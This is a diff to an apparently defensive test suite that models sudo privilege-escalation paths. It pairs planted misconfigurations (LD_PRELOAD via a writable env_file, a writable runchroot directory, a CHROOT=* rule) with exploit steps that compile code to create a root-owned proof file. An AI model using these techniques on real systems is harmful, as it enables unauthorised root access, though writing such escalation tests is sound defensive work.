@@ -19,6 +19,12 @@ OWN_PASSWORD = {"user:frank": ("certain own-password: runs-as",)}
 BY_SUDO = root_by(step("frank", f"sudo -n sh -c '{PROVES}'"))
 PRELOADED = '#include <fcntl.h>\\n__attribute__((constructor)) static void made(void) { creat("/run/proof", 0600); }\\n'
 LIBRARY = shell(f"printf '{PRELOADED}' | gcc -shared -fPIC -x c - -o /run/own.so")
+VARIABLES = f"{SITE}/variables"
+JAIL = f"{SITE}/jail"
+IN_JAIL = '#include <fcntl.h>\\n#include <sys/stat.h>\\nint main(void) { mkdir("/run", 0755); return creat("/run/proof", 0600) < 0; }\\n'
+STATIC = shell(f"printf '{IN_JAIL}' | gcc -static -x c - -o /run/own", f"install -d -o carol {JAIL}")
+LAYS_IN_JAIL = f"mkdir -p {JAIL}/usr/bin; cp /run/own {JAIL}/usr/bin/id"
+IS_ROOTS = step("root", f'test "$(stat -c %u:%a {JAIL}/run/proof)" = 0:600')
 OPT = "mount --no-mtab -t tmpfs -o mode=0755 tmpfs /opt"
 GIVES = "executes gives"
 BY_SHELL = f"-p -c '{PROVES}'"
@@ -111,6 +117,30 @@ BY_SUDO_WAYS = [
         name="a variable that sudo keeps",
         plant=all_of(LIBRARY, sudoers("Defaults:frank env_keep += LD_PRELOAD", "frank ALL = NOPASSWD: /usr/bin/id")),
         walk=root_by(step("frank", "sudo -n LD_PRELOAD=/run/own.so /usr/bin/id")),
+        certain=RUNS_AS,
+        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/id"),
+    ),
+    Way(
+        name="a file of variables for sudo that a user may write",
+        plant=all_of(
+            *(LIBRARY, shell(f"mkdir -p {SITE}; touch {VARIABLES}; chown carol {VARIABLES}")),
+            sudoers(f"Defaults env_file={VARIABLES}", "frank ALL = NOPASSWD: /usr/bin/id"),
+        ),
+        walk=kept(root_by(step("carol", f"echo LD_PRELOAD=/run/own.so > {VARIABLES}"), step("frank", "sudo -n /usr/bin/id")), VARIABLES),
+        certain=WRITES,
+        twin=shell(f"chown root {VARIABLES}"),
+    ),
+    Way(
+        name="a root directory for sudo that a user may write to",
+        plant=all_of(STATIC, sudoers(f"Defaults runchroot={JAIL}", "frank ALL = NOPASSWD: /usr/bin/id")),
+        walk=cleaned(then(step("carol", LAYS_IN_JAIL), step("frank", "sudo -n /usr/bin/id"), IS_ROOTS), f"{JAIL}/usr", f"{JAIL}/run"),
+        certain=WRITES,
+        twin=shell(f"chown root {JAIL}"),
+    ),
+    Way(
+        name="a root directory that a rule of sudo's lets be chosen",
+        plant=all_of(STATIC, shell(LAYS_IN_JAIL), sudoers("frank ALL = CHROOT=* NOPASSWD: /usr/bin/id")),
+        walk=cleaned(then(step("frank", f"sudo -n -R {JAIL} /usr/bin/id"), IS_ROOTS), f"{JAIL}/run"),
         certain=RUNS_AS,
         twin=sudoers("frank ALL = NOPASSWD: /usr/bin/id"),
     ),
